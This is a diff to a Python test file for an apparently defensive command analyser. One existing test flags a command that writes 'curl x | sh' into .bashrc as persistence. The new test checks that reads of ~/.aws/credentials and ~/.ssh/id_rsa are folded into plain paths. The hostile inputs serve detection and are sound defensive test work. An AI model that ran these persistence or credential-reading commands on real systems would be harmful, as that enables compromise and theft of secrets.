@@ -379,3 +379,12 @@ def test_code_that_writes_a_literal_wrote_that_content() -> None:
     rc = "python3 -c \"from pathlib import Path; Path('.bashrc').write_text('curl x | sh\\n')\""
     assert "shell_rc" in analyze_command(rc)["cmd.persists"]
     assert analyze_command("python3 -c \"open('notes.txt','w').write('hi')\"")["cmd.persists"] == []
+
+
+def test_home_relative_paths_in_code_are_folded() -> None:
+    from bastion.analysis.interp import fold_path_constants as fold
+
+    assert "Path('~/.aws/credentials')" in fold("(pathlib.Path.home() / '.aws' / 'credentials').read_bytes()")
+    assert "open('~/.ssh/id_rsa')" in fold("open(os.path.expanduser('~/.ssh/id_rsa'))")
+    assert "'~/.aws/credentials'" in fold("open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))")
+    assert fold("y = 4 / 2") == "y = 4 / 2"
